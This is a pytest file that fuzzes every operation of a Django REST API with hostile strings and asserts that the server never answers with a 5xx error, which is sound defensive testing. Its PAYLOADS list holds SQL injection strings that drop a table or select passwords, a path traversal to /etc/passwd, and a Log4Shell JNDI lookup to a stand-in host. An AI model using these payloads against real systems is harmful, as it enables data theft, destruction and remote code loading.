"""SQL-like, oversized and malformed input on every API operation answers 4xx, never a 5xx: each
string field, query parameter and path parameter of the OpenAPI schema gets each payload.
(Generated requests in general: schemathesis in tests/api/test_schema.py.)"""
from __future__ import annotations

import re
from typing import Any

import pytest

from tests.api.test_schema import seeded  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "' OR '1'='1' --",
    "1; DROP TABLE orders_order; --",
    "%' UNION SELECT password FROM accounts_user --",
    "\x00\x01\x7f",
    "x" * 20_000,
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "ünïcödé 😀 \u202e",
]
METHODS = ("get", "post", "put", "patch", "delete")


def _resolve(schema: dict, node: dict) -> dict:
    while "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = schema["components"]["schemas"][name]
    return node


def _body_strings(schema: dict, operation: dict) -> dict[str, Any] | None:
    content = operation.get("requestBody", {}).get("content", {}).get("application/json")
    if not content:
        return None
    body = _resolve(schema, content["schema"])
    return {name: _resolve(schema, prop) for name, prop in body.get("properties", {}).items()}


def test_hostile_strings_never_cause_a_server_error(seeded, client):  # noqa: F811
    schema = client.get("/api/schema/?format=json").json()
    headers = {"HTTP_AUTHORIZATION": f"Bearer {seeded.token}"}
    sent = 0
    failures = []
    for path, item in schema["paths"].items():
        for method in METHODS:
            operation = item.get(method)
            if not operation:
                continue
            resource = path.split("/")[3]
            known = seeded.known.get(resource, {})
            params = [p for p in operation.get("parameters", []) if p.get("schema", {}).get("type") == "string"]
            fields = _body_strings(schema, operation) or {}
            for payload in PAYLOADS:
                fill = {**{name: payload[:200] for name in re.findall(r"\{(\w+)\}", path)}, **known}
                url = re.sub(r"\{(\w+)\}", lambda m, fill=fill: str(fill[m.group(1)]), path)
                query = {p["name"]: payload for p in params if p["in"] == "query"}
                body = {name: (payload if prop.get("type") == "string" else known.get(name)) for name, prop in fields.items()}
                if method == "get":
                    response = client.get(url, query, **headers)
                else:
                    response = getattr(client, method)(url, body, content_type="application/json", **headers)
                sent += 1
                if response.status_code >= 500:
                    failures.append((method, path, payload[:40], response.status_code))
    assert sent > 300
    assert failures == []

